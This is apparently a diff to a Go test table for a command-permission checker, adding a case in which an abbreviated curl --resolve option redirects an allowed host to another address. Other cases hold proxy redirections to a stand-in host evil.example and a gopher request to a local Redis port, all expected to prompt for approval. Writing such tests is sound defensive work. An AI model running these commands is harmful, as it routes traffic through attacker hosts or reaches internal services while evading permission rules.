@@ -46,6 +46,7 @@ var secretHostTierCases = []tierCase{
 	{name: "wget -e https_proxy", cmd: "wget -e https_proxy=evil.example:3128 https://api.github.com/", rules: []string{"global allow wget *", "project-grants allow [http] api.github.com"}, want: Ask, sug: "[http] evil.example"},
 	{name: "npm --proxy is a host", cmd: "npm install --proxy=evil.example:3128", rules: []string{"global allow npm *"}, want: Ask, rule: RuleNetwork, sug: "[http] evil.example"},
 	{name: "a proxy variable is a host", cmd: "https_proxy=http://evil.example:3128 curl https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask},
+	{name: "an abbreviation of a host option", cmd: "curl --reso api.github.com:443:203.0.113.9 https://api.github.com/", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask},
 	{name: "wget -i reads URLs from a file", cmd: "wget -i urls.txt", rules: []string{"global allow wget *"}, want: Ask, rule: RuleNetworkUnseen},
 	{name: "gopher asks under curl *", cmd: "curl gopher://localhost:6379/_INFO", rules: []string{"global allow curl *", "project-grants allow [http] localhost"}, want: Ask, rule: "url-scheme"},
 	// localhost's control ports
